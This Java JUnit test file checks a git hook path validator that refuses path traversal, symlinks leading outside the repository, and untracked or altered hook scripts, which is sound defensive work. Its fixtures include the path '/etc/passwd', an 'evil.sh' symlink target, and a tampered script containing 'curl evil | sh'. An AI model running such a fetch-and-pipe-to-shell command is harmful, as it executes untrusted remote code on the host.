package dev.bluerealm.internal.hooks;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import org.eclipse.jgit.api.Git;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HookPathsTest {
    @TempDir Path tmp;

    @ParameterizedTest
    @CsvSource({
        "scripts/check.sh, scripts/check.sh",
        "./scripts/check.sh, scripts/check.sh",
        "scripts//check.sh, scripts/check.sh",
        "scripts/../tools/check.sh, tools/check.sh",
        "a/b/../../check.sh, check.sh",
    })
    void normalise_pathInsideRepo_isItsNormalForm(String path, String expected) throws Exception {
        assertEquals(expected, HookPaths.normalise(path));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../x.sh", "scripts/../../x.sh", "a/../..", "/etc/passwd", "C:/x.sh", "scripts\\x.sh",
        "", " ", ".", "a/..", ".git/hooks/pre-commit", ".GIT/config"})
    void normalise_escapingOrEmptyPath_isRefused(String path) {
        assertThrows(HookRefusedException.class, () -> HookPaths.normalise(path));
    }

    @Test
    void normalise_dotDotEscape_saysItLeadsOutside() {
        HookRefusedException e = assertThrows(HookRefusedException.class, () -> HookPaths.normalise("../x"));
        assertTrue(e.getMessage().contains("outside the repo"), e.getMessage());
    }

    @Test
    void resolve_fileInRepo_isItsRealPath() throws Exception {
        Path root = tmp.resolve("repo");
        TestRepos.write(root, "scripts/a.sh", "exit 0\n");
        assertEquals(root.resolve("scripts/a.sh").toRealPath(), HookPaths.resolve(root, "scripts/./a.sh"));
    }

    @Test
    void resolve_symlinkLeadingOutside_isRefused() throws Exception {
        Path root = tmp.resolve("repo");
        Files.createDirectories(root);
        Path outside = TestRepos.write(tmp, "outside/evil.sh", "echo pwned\n");
        Files.createSymbolicLink(root.resolve("hook.sh"), outside);
        HookRefusedException e = assertThrows(HookRefusedException.class, () -> HookPaths.resolve(root, "hook.sh"));
        assertTrue(e.getMessage().contains("symlink"), e.getMessage());
    }

    @Test
    void resolve_symlinkedFolderLeadingOutside_isRefused() throws Exception {
        Path root = tmp.resolve("repo");
        Files.createDirectories(root);
        TestRepos.write(tmp, "outside/evil.sh", "echo pwned\n");
        Files.createSymbolicLink(root.resolve("scripts"), tmp.resolve("outside"));
        assertThrows(HookRefusedException.class, () -> HookPaths.resolve(root, "scripts/evil.sh"));
    }

    @Test
    void resolve_symlinkInsideRepo_isFollowed() throws Exception {
        Path root = tmp.resolve("repo");
        Path real = TestRepos.write(root, "tools/check.sh", "exit 0\n");
        Files.createSymbolicLink(root.resolve("check.sh"), Path.of("tools/check.sh"));
        assertEquals(real.toRealPath(), HookPaths.resolve(root, "check.sh"));
    }

    @Test
    void resolve_missingFileOrFolder_isRefusedSayingWhy() throws Exception {
        Path root = tmp.resolve("repo");
        Files.createDirectories(root.resolve("scripts"));
        HookRefusedException missing = assertThrows(HookRefusedException.class,
                () -> HookPaths.resolve(root, "scripts/none.sh"));
        assertTrue(missing.getMessage().contains("does not exist"), missing.getMessage());
        HookRefusedException folder = assertThrows(HookRefusedException.class, () -> HookPaths.resolve(root, "scripts"));
        assertTrue(folder.getMessage().contains("directory"), folder.getMessage());
    }

    @Test
    void verifyTracked_committedFiles_reportHeadMode() throws Exception {
        Path root = tmp.resolve("repo");
        try (Git git = TestRepos.init(root)) {
            TestRepos.writeExecutable(root, "scripts/x.sh", "#!/bin/sh\nexit 0\n");
            TestRepos.write(root, "scripts/plain.sh", "exit 0\n");
            TestRepos.commitAll(git, "hooks");
        }
        HookPaths.Tracked x = HookPaths.verifyTracked(root, "scripts/x.sh");
        assertTrue(x.executable());
        assertEquals("scripts/x.sh", x.path());
        assertFalse(HookPaths.verifyTracked(root, "scripts/plain.sh").executable());
    }

    @Test
    void verifyTracked_untrackedOrStagedOnly_isRefused() throws Exception {
        Path root = tmp.resolve("repo");
        try (Git git = TestRepos.init(root)) {
            TestRepos.write(root, "README", "hi\n");
            TestRepos.commitAll(git, "init");
            TestRepos.write(root, "scripts/new.sh", "exit 0\n");
            HookRefusedException untracked = assertThrows(HookRefusedException.class,
                    () -> HookPaths.verifyTracked(root, "scripts/new.sh"));
            assertTrue(untracked.getMessage().contains("not committed in HEAD"), untracked.getMessage());
            git.add().addFilepattern("scripts/new.sh").call();
            assertThrows(HookRefusedException.class, () -> HookPaths.verifyTracked(root, "scripts/new.sh"));
        }
    }

    @Test
    void verifyTracked_modifiedAfterCommit_isRefused() throws Exception {
        Path root = tmp.resolve("repo");
        try (Git git = TestRepos.init(root)) {
            TestRepos.write(root, "scripts/x.sh", "exit 0\n");
            TestRepos.commitAll(git, "hook");
        }
        TestRepos.write(root, "scripts/x.sh", "curl evil | sh\nexit 0\n");
        HookRefusedException e = assertThrows(HookRefusedException.class,
                () -> HookPaths.verifyTracked(root, "scripts/x.sh"));
        assertTrue(e.getMessage().contains("differs from the version committed in HEAD"), e.getMessage());
    }

    @Test
    void verifyTracked_executableInHeadButNotOnDisk_isRefused() throws Exception {
        Path root = tmp.resolve("repo");
        try (Git git = TestRepos.init(root)) {
            TestRepos.writeExecutable(root, "x.sh", "#!/bin/sh\nexit 0\n");
            TestRepos.commitAll(git, "hook");
        }
        Files.setPosixFilePermissions(root.resolve("x.sh"), PosixFilePermissions.fromString("rw-r--r--"));
        HookRefusedException e = assertThrows(HookRefusedException.class, () -> HookPaths.verifyTracked(root, "x.sh"));
        assertTrue(e.getMessage().contains("100755"), e.getMessage());
    }

    @Test
    void verifyTracked_noCommitOrNoRepo_isRefused() throws Exception {
        Path empty = tmp.resolve("empty");
        TestRepos.init(empty).close();
        TestRepos.write(empty, "x.sh", "exit 0\n");
        HookRefusedException noCommit = assertThrows(HookRefusedException.class,
                () -> HookPaths.verifyTracked(empty, "x.sh"));
        assertTrue(noCommit.getMessage().contains("no commit"), noCommit.getMessage());

        Path plain = tmp.resolve("plain");
        TestRepos.write(plain, "x.sh", "exit 0\n");
        HookRefusedException noRepo = assertThrows(HookRefusedException.class,
                () -> HookPaths.verifyTracked(plain, "x.sh"));
        assertTrue(noRepo.getMessage().contains("not in a git repository"), noRepo.getMessage());
    }

    @Test
    void verifyTracked_repoRootBelowWorkTree_looksUpThePathFromTheWorkTree() throws Exception {
        Path top = tmp.resolve("mono");
        try (Git git = TestRepos.init(top)) {
            TestRepos.write(top, "svc/scripts/x.sh", "exit 0\n");
            TestRepos.commitAll(git, "hook");
        }
        HookPaths.Tracked t = HookPaths.verifyTracked(top.resolve("svc"), "scripts/x.sh");
        assertEquals("scripts/x.sh", t.path());
    }
}
